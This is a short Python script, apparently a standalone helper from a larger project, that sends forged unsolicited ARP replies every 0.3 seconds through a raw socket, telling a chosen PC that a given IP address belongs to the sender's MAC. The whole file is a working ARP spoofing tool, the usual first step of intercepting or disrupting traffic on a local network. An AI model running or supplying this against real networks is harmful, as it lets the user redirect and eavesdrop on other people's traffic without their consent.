"""Says to one PC, again and again, that an address is ours: ``spoof DEVICE CLAIMED PC PC_MAC``.

Run as a file: it needs nothing of the project. ARP answers nobody asked for, as such
programs send them.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

EVERY_S = 0.3


def frame(mac: bytes, claimed: str, pc: str, pc_mac: bytes) -> bytes:
    head = pc_mac + mac + struct.pack("!H", 0x0806)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    return head + body + mac + socket.inet_aton(claimed) + pc_mac + socket.inet_aton(pc)


def main(device: str, claimed: str, pc: str, pc_mac: str) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((device, 0x0806))
        packet = frame(sock.getsockname()[4], claimed, pc, bytes.fromhex(pc_mac.replace(":", "")))
        while True:
            sock.send(packet)
            time.sleep(EVERY_S)


if __name__ == "__main__":
    main(*sys.argv[1:5])
